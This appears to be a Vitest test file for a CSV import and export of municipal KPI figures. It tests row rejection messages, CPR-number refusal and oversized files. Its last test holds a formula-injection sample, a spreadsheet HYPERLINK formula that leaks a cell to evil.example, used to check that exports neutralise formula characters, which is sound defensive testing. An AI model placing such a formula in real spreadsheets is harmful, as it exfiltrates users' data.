import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AppError, ValidationError } from '../../functions/domain/errors.js';
import { exportFiguresCsv, MAX_IMPORT_BYTES } from '../../functions/import/index.js';
import type { Store } from '../../functions/store/store.js';
import { KIK, run, seededStore, snapshot } from './support.js';

let store: Store;
let dispose: () => Promise<void>;
beforeAll(async () => ({ store, dispose } = await seededStore()));
afterAll(() => dispose());

const HEADER = 'org;kpi;kind;period;value;unit;source';
const good = `aabenraa;${KIK}.selvforsoergende;actual;2018-10-31;430;personer;Status oktober`;

async function rejectedBy(lines: string[]) {
  const { plan } = await run(store, [HEADER, ...lines].join('\n'), { dryRun: true });
  return plan.rejected;
}

describe('rejected rows name their row and reason', () => {
  it.each([
    ['text in a number cell', `aabenraa;${KIK}.selvforsoergende;actual;2018-10-31;mange;personer;x`, /text in a number cell: "mange"/],
    ['a formula in a number cell', `aabenraa;${KIK}.selvforsoergende;actual;2018-10-31;=1+2;personer;x`, /text in a number cell: "=1\+2"/],
    ['an unknown organisation', `odense;${KIK}.selvforsoergende;actual;2018-10-31;430;personer;x`, /unknown organisation "odense"/],
    ['a unit mismatch', `aabenraa;${KIK}.selvforsoergende;actual;2018-10-31;430;mio. kr.;x`, /unit mismatch: the file says "mio. kr.", KPI .* is in persons/],
    ['a percent sign on a count', `aabenraa;${KIK}.selvforsoergende;actual;2018-10-31;43 %;personer;x`, /unit mismatch/],
    ['an unreadable period', `aabenraa;${KIK}.selvforsoergende;actual;snart;430;personer;x`, /cannot read the period "snart"/],
    [
      'a range that ends before it starts',
      `aabenraa;${KIK}.selvforsoergende;actual;aug 2017 -- sep 2016;430;personer;x`,
      /^the period "aug 2017 -- sep 2016" ends before it starts \(2017-08--2016-09\); write the earlier period first$/,
    ],
    ['an unknown kind', `aabenraa;${KIK}.selvforsoergende;gæt;2018-10-31;430;personer;x`, /unknown kind "gæt"/],
    ['another municipality for the KPI', `viborg;${KIK}.selvforsoergende;actual;2018-10-31;430;personer;x`, /belongs to aabenraa, not viborg/],
    ['too many cells', `${good};extra;cells`, /wrong columns: the row has 9 cells, the header 7/],
  ])('%s', async (_what, line, reason) => {
    const rejected = await rejectedBy([good.replace('2018-10-31', '2018-11-30'), line]);
    expect(rejected).toHaveLength(1);
    expect(rejected[0]!.row).toBe(3);
    expect(rejected[0]!.reason).toMatch(reason);
  });

  it('a CPR number in any cell refuses the whole file, dry run included, naming the cell and not the number', async () => {
    for (const line of [`aabenraa;${KIK}.selvforsoergende;actual;2018-10-31;430;personer;Borger 010190-1234`, `aabenraa;010190-1234;actual;2018-10-31;430;personer;x`]) {
      const refused = await rejectedBy([good.replace('2018-10-31', '2018-11-30'), line]).catch((error: unknown) => error as Error);
      expect(refused).toBeInstanceOf(Error);
      expect((refused as Error).message).toMatch(/CPR number \(row 3, column \d\)/);
      expect((refused as Error).message).not.toContain('010190');
    }
  });

  it('suggests KPIs for an unknown one, from the figure-query search index', async () => {
    const [r] = await rejectedBy([`aabenraa;KIK II selvforsørgende borgere i alt;actual;2018-10-31;430;personer;x`]);
    expect(r!.reason).toMatch(/unknown KPI/);
    expect(r!.suggestions?.some((s) => s.startsWith(`${KIK}.selvforsoergende`))).toBe(true);
  });

  it('rejects the second of two rows for the same figure, pointing at the first', async () => {
    const rejected = await rejectedBy([good, good.replace('430', '431')]);
    expect(rejected).toEqual([{ row: 3, reason: expect.stringMatching(/duplicate: row 2 already gives/) }]);
  });
});

describe('rejected rows of the full export layout', () => {
  const FULL = 'org;kpi;kind;period;value;bound;unit;source;locator;title;section;section kind;note';
  /** A row of the full layout: `cells` overrides the good row's cells by column name. */
  const row = (cells: Record<string, string>) => {
    const base: Record<string, string> = { org: 'aabenraa', kpi: `${KIK}.selvforsoergende`, kind: 'actual', period: '2018-10-31', value: '430', bound: '', unit: 'personer', source: 'Status', locator: '', title: '', section: '', 'section kind': '', note: '' };
    return FULL.split(';').map((c) => cells[c] ?? base[c]).join(';');
  };
  const long = 'x'.repeat(70);

  it.each([
    ['an empty KPI cell', { kpi: '' }, 'the KPI cell is empty'],
    ['an empty period cell', { period: '' }, 'the period cell is empty'],
    ['an empty value cell', { value: '' }, 'the value cell is empty'],
    ['an unknown unit', { unit: 'stk.' }, 'unknown unit "stk."'],
    ['an unknown bound', { bound: 'omkring' }, 'unknown bound "omkring" (atLeast / mindst, atMost / højst, or empty for an exact value)'],
    ['an unknown section kind', { 'section kind': 'kapitel' }, 'unknown section kind "kapitel" (slide, section, form)'],
    ['a long organisation name, clipped to one short line', { org: long }, `unknown organisation "${'x'.repeat(57)}…"`],
    ['an organisation name of 60 characters, kept whole', { org: 'y'.repeat(60) }, `unknown organisation "${'y'.repeat(60)}"`],
  ])('%s', async (_what, cells, reason) => {
    const { plan } = await run(store, [FULL, row({ period: '2018-11-30' }), row(cells)].join('\n'), { dryRun: true });
    expect(plan.rejected).toEqual([{ row: 3, reason }]);
  });

  it('reads a bound, an empty kind as actual, and the section columns into the source', async () => {
    const { plan } = await run(store, [FULL, row({ kind: '', bound: 'Mindst', locator: 'Tabel 2', title: 'Status', section: 'Mål', 'section kind': 'slide', note: 'foreløbig' })].join('\n'), { dryRun: true });
    expect(plan.rejected).toEqual([]);
    expect([...plan.new, ...plan.changed, ...plan.unchanged][0]!.figure).toMatchObject({
      kind: 'actual',
      bound: 'atLeast',
      note: 'foreløbig',
      source: { document: 'Status', locator: 'Tabel 2', title: 'Status', section: 'Mål', sectionKind: 'slide' },
    });
  });
});

describe('files that cannot be imported at all', () => {
  it.each([
    ['no KPI column', 'organisation;period;value\naabenraa;2018-10;1\n', /no header row names a KPI column/],
    ['an unknown column in the long layout', `${HEADER};colour\n${good};red\n`, /unknown "colour"/],
    ['a missing value column', 'kpi;period\nx;2018\n', /missing value/],
    ['an empty file', '', /is empty/],
  ])('%s is a 400 naming the problem', async (_what, text, message) => {
    const error = await run(store, text, { dryRun: true }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(ValidationError);
    expect((error as Error).message).toMatch(message);
  });

  it('a file over the limit is refused before it is parsed', async () => {
    const big = new Uint8Array(MAX_IMPORT_BYTES + 1).fill(0x41);
    const error = await run(store, big, { dryRun: true }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(AppError);
    expect((error as AppError).status).toBe(413);
  });

  it('a real import with any rejected row writes nothing', async () => {
    const before = await snapshot(store);
    const error = await run(store, [HEADER, good, `aabenraa;${KIK}.selvforsoergende;actual;2018-12-31;x;personer;y`].join('\n')).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(ValidationError);
    expect((error as ValidationError).errors).toEqual([{ field: 'row 3', message: expect.stringMatching(/text in a number cell/) }]);
    expect(await snapshot(store)).toEqual(before);
  });
});

describe('formula injection', () => {
  it('stores a formula-like text cell as plain text and exports it so no spreadsheet runs it', async () => {
    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik her")';
    const csv = `kpi,kind,period,value,source,note\n${KIK}.anden-forsoergelse,actual,2018-10-31,88,"${evil.replace(/"/g, '""')}","@SUM(1+1)"\n`;
    const { plan } = await run(store, csv);
    expect(plan.rejected).toEqual([]);
    const stored = await store.figures.get(plan.new[0]!.figure.id, `${KIK}.anden-forsoergelse`);
    expect(stored?.source.document).toBe(evil);
    expect(stored?.note).toBe('@SUM(1+1)');

    const exported = await exportFiguresCsv(store, { org: 'aabenraa' });
    const lines = exported.split('\r\n').filter((l) => l.includes('@SUM'));
    expect(lines).toHaveLength(1);
    // Every cell of the exported row: none may begin with a formula character.
    const cells = lines[0]!.match(/("([^"]|"")*"|[^;]*)(;|$)/g)!.map((c) => c.replace(/;$/, '').replace(/^"|"$/g, ''));
    for (const cell of cells) expect(cell).not.toMatch(/^[=+@\t\r]/);
    expect(lines[0]).toContain(`'=HYPERLINK`);
    expect(lines[0]).toContain(`'@SUM(1+1)`);
  });
});
